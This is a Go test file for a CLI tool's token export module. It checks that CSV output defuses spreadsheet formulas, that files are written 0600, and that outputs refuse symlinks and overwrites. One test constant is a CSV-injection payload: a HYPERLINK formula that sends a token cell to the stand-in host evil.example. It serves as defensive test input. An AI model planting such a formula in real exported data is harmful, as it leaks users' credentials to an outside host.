package tokenfile

import (
	"bytes"
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/axero-cli/axero/internal/safefile"
)

const evilFormula = `=HYPERLINK("http://evil.example/?"&F2,"open")`

func sampleRecord() Record {
	exp := time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)
	return Record{User: evilFormula, UserID: 3, TokenID: 100, Name: "-n", Expiry: &exp, Token: "eyJ.a.b"}
}

// In CSV output no cell is a formula that could send the token in the
// same row away; JSON Lines keep exact values. Both read back exactly.
func TestOutputNeutralisesCSVAndKeepsJSONExact(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for _, name := range []string{"out.csv", "out.jsonl"} {
		path := filepath.Join(dir, name)
		w, err := CreateOutput(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(sampleRecord()); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		raw, _ := os.ReadFile(path) //nolint:gosec // the test's own file
		if name == "out.csv" {
			rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
			if err != nil || len(rows) != 2 || rows[1][0] != "'"+evilFormula || rows[1][3] != "'-n" {
				t.Fatalf("csv %q %v", rows, err)
			}
		} else if !bytes.Contains(raw, []byte(`"user":"=HYPERLINK(\"http://evil.example/?\"&F2,\"open\")"`)) {
			t.Fatalf("jsonl %s", raw)
		}
		r, err := Open(path)
		if err != nil {
			t.Fatal(err)
		}
		es := readTokens(t, r)
		if len(es) != 1 || es[0].User != evilFormula || es[0].Name != "-n" || es[0].Token != "eyJ.a.b" {
			t.Fatalf("%s read back as %+v", name, es)
		}
		if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: mode %v", name, fi.Mode().Perm())
		}
	}
}

// An output is never replaced: creating it over anything fails, a
// symbolic link included; appending refuses a link and a file others can
// read, and cuts a torn last record.
func TestOutputIsNeverReplacedOrHandedOver(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	victim := filepath.Join(dir, "victim")
	if err := os.WriteFile(victim, []byte("precious\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "link.jsonl")
	if err := os.Symlink(victim, link); err != nil {
		t.Skip("no symlinks here")
	}
	var ee *ExistsError
	if _, err := CreateOutput(victim); !errors.As(err, &ee) {
		t.Errorf("create over a file: %v", err)
	}
	if _, err := CreateOutput(link); !errors.As(err, &ee) {
		t.Errorf("create over a link: %v", err)
	}
	var ne *safefile.RefusedError
	if _, err := AppendOutput(link, 0); !errors.As(err, &ne) {
		t.Errorf("append to a link: %v", err)
	}
	if b, _ := os.ReadFile(victim); string(b) != "precious\n" { //nolint:gosec // the test's own file
		t.Fatalf("victim %q", b)
	}
	out := filepath.Join(dir, "out.jsonl")
	whole := `{"user":"a","UserID":1,"TokenID":2,"name":"n","expiry":null,"token":"t"}` + "\n"
	if err := os.WriteFile(out, []byte(whole+`{"user":"b","Us`), 0o600); err != nil {
		t.Fatal(err)
	}
	w, err := AppendOutput(out, int64(len(whole)))
	if err != nil {
		t.Fatal(err)
	}
	_ = w.Write(sampleRecord())
	_ = w.Close()
	raw, _ := os.ReadFile(out) //nolint:gosec // the test's own file
	if lines := strings.Split(strings.TrimSpace(string(raw)), "\n"); len(lines) != 2 || !strings.HasPrefix(lines[1], `{"user":"=HYPERLINK`) {
		t.Fatalf("torn record not cut: %q", raw)
	}
	if runtime.GOOS != "windows" {
		_ = os.Chmod(out, 0o644) //nolint:gosec // test sets permissions on purpose
		if _, err := AppendOutput(out, 0); err == nil || !strings.Contains(err.Error(), "0644") {
			t.Errorf("append to a file others can read: %v", err)
		}
	}
}
